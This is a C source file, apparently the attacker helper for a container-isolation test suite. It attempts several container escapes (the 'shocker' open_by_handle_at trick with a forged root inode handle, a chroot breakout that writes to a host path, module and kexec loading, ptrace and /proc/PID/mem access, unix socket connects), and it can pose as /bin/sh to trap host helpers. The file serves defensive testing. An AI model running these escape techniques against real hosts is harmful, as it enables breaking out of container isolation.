/* The escape suite's attacker: system calls CT root tries from inside a
 * CT (tests/security/test_attacks.sh). Static: it needs nothing of the CT.
 *
 *   attack keyring            the session keyring and a key in it
 *   attack handle PATH        open_by_handle_at on PATH's handle (the
 *                             "shocker" escape: a handle names any inode
 *                             of the file system, the CT's root or not)
 *   attack modules            init_module, finit_module, delete_module
 *   attack kexec              kexec_load, kexec_file_load
 *   attack ptrace PID         PTRACE_ATTACH, then /proc/PID/mem
 *   attack chroot-out PATH    leave a chroot (chroot into a subdirectory,
 *                             walk up, chroot there) and create PATH
 *   attack unix NAME          connect to the abstract unix socket NAME
 *   attack unix-path PATH     connect to the unix socket at PATH
 *
 * Each prints "DENIED <what>: <error>" or "DONE <what>" per attempt and
 * exits 0; what the test asserts is the output and the host's state.
 *
 * Run under the name "sh" (as a CT's /bin/sh) it reads a path from
 * /vz-attack-target, does chroot-out creating PATH.created and says
 * whether PATH is in the root it reached (REACHED), all in /vz-attack-log:
 * what a host helper that chroots into a stopped CT and runs its /bin/sh
 * would meet. It exits 3, as a failed script. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stddef.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void verdict(const char *what, long r)
{
	if (r < 0)
		printf("DENIED %s: %s\n", what, strerror(errno));
	else
		printf("DONE %s\n", what);
}

static void keyring(void)
{
	/* KEYCTL_GET_KEYRING_ID 0, KEY_SPEC_SESSION_KEYRING -3 */
	verdict("keyctl", syscall(SYS_keyctl, 0, -3, 1));
	verdict("add_key", syscall(SYS_add_key, "user", "vz-attack", "x", 1, -3));
}

static void handle(const char *path)
{
	struct {
		struct file_handle fh;
		unsigned char buf[128];
	} h;
	h.fh.handle_bytes = sizeof(h.buf);
	int mnt;
	if (name_to_handle_at(AT_FDCWD, path, &h.fh, &mnt, 0) < 0) {
		verdict("name_to_handle_at", -1);
		/* the root inode of an ext4 file system: 2 */
		h.fh.handle_type = 1; /* FILEID_INO32_GEN */
		h.fh.handle_bytes = 8;
		memset(h.buf, 0, 8);
		h.buf[0] = 2;
	}
	verdict("open_by_handle_at", open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY),
						       &h.fh, O_RDONLY));
}

static void modules(void)
{
	verdict("init_module", syscall(SYS_init_module, "", 0, ""));
	int fd = open("/proc/self/exe", O_RDONLY);
	verdict("finit_module", syscall(SYS_finit_module, fd, "", 0));
	verdict("delete_module", syscall(SYS_delete_module, "vz_none", O_NONBLOCK));
}

static void kexec(void)
{
	verdict("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
#ifdef SYS_kexec_file_load
	int fd = open("/proc/self/exe", O_RDONLY);
	verdict("kexec_file_load", syscall(SYS_kexec_file_load, fd, -1, 1, "", 2));
#endif
}

static void trace(pid_t pid)
{
	long r = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
	verdict("ptrace", r);
	if (r == 0) {
		(void)waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/mem", (int)pid);
	verdict("mem", open(p, O_RDWR));
}

static void chroot_out(const char *path)
{
	(void)mkdir("/vz-attack-x", 0700);
	if (chroot("/vz-attack-x") < 0) {
		verdict("chroot", -1);
		return;
	}
	/* cwd stayed outside the new root: walk it up to the real one */
	for (int i = 0; i < 64; i++)
		(void)chdir("..");
	verdict("chroot-out", chroot("."));
	DIR *d = opendir("/");
	struct dirent *de;
	printf("ROOT:");
	while (d && (de = readdir(d)))
		printf(" %s", de->d_name);
	printf("\n");
	int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
	verdict("create", fd);
	if (fd >= 0)
		(void)write(fd, "escaped\n", 8);
}

static void unix_path(const char *path)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	verdict("connect-path", connect(s, (struct sockaddr *)&a, sizeof(a)));
}

static void unix_connect(const char *name)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	size_t n = strlen(name);
	if (n + 1 > sizeof(a.sun_path))
		n = sizeof(a.sun_path) - 1;
	memcpy(a.sun_path + 1, name, n);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	verdict("connect", connect(s, (struct sockaddr *)&a,
				   (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)));
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	const char *me = strrchr(argv[0], '/');
	me = me ? me + 1 : argv[0];
	if (!strcmp(me, "sh")) {
		char target[512] = "";
		FILE *f = fopen("/vz-attack-target", "r");
		if (f) {
			if (!fgets(target, sizeof(target), f))
				target[0] = '\0';
			fclose(f);
		}
		target[strcspn(target, "\n")] = '\0';
		if (*target) {
			int log = open("/vz-attack-log", O_CREAT | O_WRONLY | O_TRUNC, 0644);
			if (log >= 0)
				(void)dup2(log, 1);
			char made[520];
			snprintf(made, sizeof(made), "%s.created", target);
			chroot_out(made);
			/* what the root reached holds */
			struct stat st;
			printf("REACHED %s\n", stat(target, &st) == 0 ? target : "nothing");
		}
		else
			printf("DENIED target: no /vz-attack-target\n");
		return 3; /* a failed script: its last line is in vzctl's error */
	}
	if (argc < 2) {
		fprintf(stderr, "usage: attack keyring|handle P|modules|kexec|ptrace PID|chroot-out P|unix N\n");
		return 2;
	}
	const char *c = argv[1], *a = argc > 2 ? argv[2] : "/";
	if (!strcmp(c, "keyring"))
		keyring();
	else if (!strcmp(c, "handle"))
		handle(a);
	else if (!strcmp(c, "modules"))
		modules();
	else if (!strcmp(c, "kexec"))
		kexec();
	else if (!strcmp(c, "ptrace"))
		trace((pid_t)atoi(a));
	else if (!strcmp(c, "chroot-out"))
		chroot_out(a);
	else if (!strcmp(c, "unix"))
		unix_connect(a);
	else if (!strcmp(c, "unix-path"))
		unix_path(a);
	else
		return 2;
	return 0;
}
